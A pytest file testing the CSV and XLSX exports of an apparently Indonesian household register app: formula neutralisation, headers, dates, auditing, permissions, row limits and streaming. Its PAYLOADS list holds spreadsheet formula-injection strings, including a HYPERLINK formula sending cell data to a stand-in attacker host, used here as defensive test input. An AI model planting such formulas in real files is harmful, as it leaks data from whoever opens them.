"""What an export file holds and how it is made: formulas neutralised, Indonesian headers and
real dates, its name and headers; every export audited, refused to roles without the right
and on bad input, limited in rows; streamed in constant memory through a server-side cursor."""

import datetime
import re
import tracemalloc

import pytest
import sqlalchemy as sa

from tests.conftest import BANDUNG_VILLAGE
from tests.fixtures.exports import fetch, read_csv, read_xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1", "-2+3", "@SUM(1+1)", "\t=1+1"]


def last_export(app):
    from models import AuditEntry

    with app.app_context():
        from app.extensions import db

        entry = (
            db.session.query(AuditEntry)
            .filter_by(action="export")
            .order_by(AuditEntry.id.desc())
            .first()
        )
        return entry and {
            "username": entry.username,
            "entity": entry.entity,
            "region_code": entry.region_code,
            **entry.after,
        }


# -- formula injection ----------------------------------------------------------------------------
def test_formula_payloads_are_neutralised(app, client, login, make_household):
    for payload in PAYLOADS:
        make_household(BANDUNG_VILLAGE, address=payload)
    login("operator.bandung")
    rows = read_csv(fetch(client, "/households/export/csv"))
    address = rows[0].index("Alamat")
    exported = sorted(row[address] for row in rows[1:])
    assert exported == sorted("'" + payload for payload in PAYLOADS)

    values, cells = read_xlsx(fetch(client, "/households/export/xlsx"))
    column = values[0].index("Alamat")
    written = [line[column] for line in cells[1:]]
    assert sorted(cell["value"] for cell in written) == sorted(PAYLOADS)
    for cell in written:
        assert cell["type"] == "inlineStr" and not cell["formula"]
        assert cell["quote_prefix"], cell


def test_ordinary_text_and_negative_numbers_are_left_alone(client, login, make_household):
    from app import exports

    make_household(BANDUNG_VILLAGE, address="Jl. Asia-Afrika 8, RT 01-02")
    login("admin")
    rows = read_csv(fetch(client, "/households/export/csv"))
    assert rows[1][rows[0].index("Alamat")] == "Jl. Asia-Afrika 8, RT 01-02"
    # A number (a latitude south of the equator) stays a number; the same text is neutralised.
    text = b"".join(exports.csv_chunks(["Lintang"], [[-6.9175], ["-6.9175"]]))
    assert text.decode("utf-8-sig").splitlines() == ["Lintang", "-6.9175", "'-6.9175"]


# -- cells ---------------------------------------------------------------------------------------
def test_indonesian_headers_labels_and_real_dates(app, client, login, register):
    login("operator.bandung")
    rows = read_csv(fetch(client, "/members/export/csv"))
    assert rows[0][:2] == ["NIK", "Nama Lengkap"] and "Jenis Kelamin" in rows[0]
    birth = rows[0].index("Tanggal Lahir")
    assert {row[birth] for row in rows[1:]} == {"1980-05-17", "1983-02-03"}
    assert "Laki-laki" in {row[rows[0].index("Jenis Kelamin")] for row in rows[1:]}

    values, cells = read_xlsx(fetch(client, "/members/export/xlsx"))
    dates = [line[birth] for line in cells[1:]]
    assert all(cell["type"] == "n" and cell["format"] == "yyyy-mm-dd" for cell in dates)
    day = datetime.date(1899, 12, 30) + datetime.timedelta(days=float(dates[0]["value"]))
    assert day in {datetime.date(1980, 5, 17), datetime.date(1983, 2, 3)}
    # NIK stays text in XLSX (16 digits would lose precision as a number).
    assert all(line[0]["type"] == "inlineStr" for line in cells[1:])

    client.get("/lang/en")
    assert read_csv(fetch(client, "/households/export/csv"))[0][0] == "Register ID"
    client.get("/lang/id")


def test_file_name_and_headers(client, login, register):
    login("admin")
    response = fetch(client, "/households/export/xlsx")
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="rumah-tangga-\d{8}-\d{4}\.xlsx"', disposition)
    assert response.headers["Cache-Control"] == "no-store, private"
    assert response.get_data()[:2] == b"PK"


# -- audit, permissions, bad input -----------------------------------------------------------------
def test_every_export_is_audited(app, client, login, register):
    login("operator.bandung")
    fetch(client, "/households/export/xlsx?_flt_0_welfare_decile=5").get_data()
    entry = last_export(app)
    assert entry == {
        "username": "operator.bandung",
        "entity": "household",
        "region_code": "32.73",
        "list": "HouseholdView",
        "format": "xlsx",
        "filters": {"_flt_0_welfare_decile": ["5"]},
        "rows": 3,
    }
    client.get("/logout/")
    login("pengawas")
    fetch(client, "/members/export/csv").get_data()
    entry = last_export(app)
    assert (entry["username"], entry["entity"], entry["region_code"], entry["rows"]) == (
        "pengawas",
        "member",
        None,
        14,
    )
    rows = read_csv(fetch(client, "/audit/export/csv?_flt_0_username=operator.bandung"))
    assert rows[0][:2] == ["Waktu", "Pengguna"]
    assert [row[1] for row in rows[1:]].count("operator.bandung") >= 2  # sign-in, export


def test_roles_without_export_permission_are_refused(client, login, register):
    assert fetch(client, "/households/export/csv").status_code == 302  # not signed in: login
    login("verifikator.bandung")
    html = client.get("/households/list/").get_data(as_text=True)
    assert "Ekspor CSV" not in html
    assert fetch(client, "/households/export/csv").status_code == 403
    assert fetch(client, "/members/export/xlsx").status_code == 403
    client.get("/logout/")
    login("prov.jabar")
    assert fetch(client, "/audit/export/csv").status_code == 403  # reads no audit trail
    assert fetch(client, "/households/export/csv").status_code == 200


@pytest.mark.parametrize(
    "query",
    [
        "_oc_HouseholdView=nonexistent&_od_HouseholdView=asc",
        "_flt_9_region=32",
        "page_HouseholdView=abc",
        "psize_HouseholdView=-5",
    ],
)
def test_malformed_arguments_are_refused_like_the_list(client, login, register, query):
    login("admin")
    assert client.get(f"/households/list/?{query}").status_code == 400
    assert fetch(client, f"/households/export/csv?{query}").status_code == 400
    assert fetch(client, f"/households/export/xlsx?{query}").status_code == 400


@pytest.mark.parametrize(
    "url",
    [
        "/households/export/pdf",
        "/households/export/csv?_flt_0_status=BOGUS",
        "/households/export/csv?_flt_0_welfare_decile=abc",
        "/audit/export/csv?_flt_0_date=not-a-date",
    ],
)
def test_other_bad_input_is_never_a_server_error(client, login, url):
    login("admin")
    assert fetch(client, url).status_code < 500


def test_row_limit_gives_a_clear_message(app, client, login, register, monkeypatch):
    login("admin")
    fetch(client, "/households/export/csv?_flt_0_welfare_decile=2")
    before = last_export(app)
    monkeypatch.setitem(app.config, "EXPORT_MAX_ROWS", 2)
    response = fetch(
        client, "/households/export/csv?_flt_0_welfare_decile=5", follow_redirects=True
    )
    assert len(read_csv(fetch(client, "/households/export/csv?_flt_0_welfare_decile=2"))) == 3
    html = response.get_data(as_text=True)
    assert response.status_code == 200  # back on the list, with its search
    assert "Daftar ini berisi 4 baris; satu ekspor paling banyak 2 baris" in html
    assert "Persempit pencarian" in html and "_flt_0_welfare_decile=5" in response.request.url
    assert last_export(app)["filters"] == before["filters"]  # the refused one is not audited


def test_xlsx_sheet_limit(app):
    from app import exports
    from app.errors import ValidationError

    with app.test_request_context():
        exports.check_size("csv", exports.XLSX_MAX_ROWS + 1, None)
        exports.check_size("xlsx", exports.XLSX_MAX_ROWS, None)
        with pytest.raises(ValidationError, match="XLSX"):
            exports.check_size("xlsx", exports.XLSX_MAX_ROWS + 1, None)
        with pytest.raises(ValidationError):
            exports.check_size("csv", exports.DEFAULT_MAX_ROWS + 1)


# -- constant memory -------------------------------------------------------------------------------
def _measure(client, fmt: str) -> tuple[int, int]:
    """(bytes sent, peak Python memory while the export was built and sent)."""
    tracemalloc.start()
    response = client.get(f"/members/export/{fmt}")
    assert response.is_streamed
    size = sum(len(chunk) for chunk in response.response)
    response.close()
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return size, peak


def test_export_streams_in_constant_memory(app, client, login):
    """Five times the rows, five times the file, the same memory: rows are read and written a
    batch at a time, never collected."""
    from app import demo

    login("admin")
    with app.app_context():
        small = demo.generate(1000, seed=11).members
    measured = {}
    for fmt in ("csv", "xlsx"):
        _measure(client, fmt)  # warm caches (permissions, compiled statements, catalogs)
        measured[fmt] = [_measure(client, fmt)]
    with app.app_context():
        large = small + demo.generate(4500, seed=12).members
    assert large >= 20_000
    for fmt in ("csv", "xlsx"):
        measured[fmt].append(_measure(client, fmt))
        (small_size, small_peak), (large_size, large_peak) = measured[fmt]
        print(
            f"{fmt}: {small} rows {small_size} B peak {small_peak} B; "
            f"{large} rows {large_size} B peak {large_peak} B"
        )
        assert large_size > 4 * small_size
        assert large_peak < 1.5 * small_peak, measured


def test_rows_are_read_in_batches_through_a_server_side_cursor(app, client, login, register):
    """Batches of `yield_per` rows; on PostgreSQL through a named (server-side) cursor, so the
    database sends rows as they are written out. Related records come per batch (no N+1)."""
    from app.extensions import db

    seen = []

    def _statement(_conn, cursor, statement, _parameters, context, _many):
        if "FROM member" in statement and statement.lstrip().upper().startswith("SELECT"):
            seen.append(
                (
                    context.execution_options.get("yield_per"),
                    getattr(cursor, "name", None),
                    statement,
                )
            )

    with app.app_context():
        engine = db.engine
    login("admin")
    sa.event.listen(engine, "before_cursor_execute", _statement)
    try:
        rows = read_csv(fetch(client, "/members/export/csv"))
    finally:
        sa.event.remove(engine, "before_cursor_execute", _statement)
    assert len(rows) == 15
    streamed = [entry for entry in seen if entry[0]]
    assert len(streamed) == 1, seen
    if engine.dialect.name == "postgresql":
        assert streamed[0][1], "a named cursor (server-side) on PostgreSQL"
    assert len(seen) <= 3, [entry[2][:80] for entry in seen]  # count, rows, households
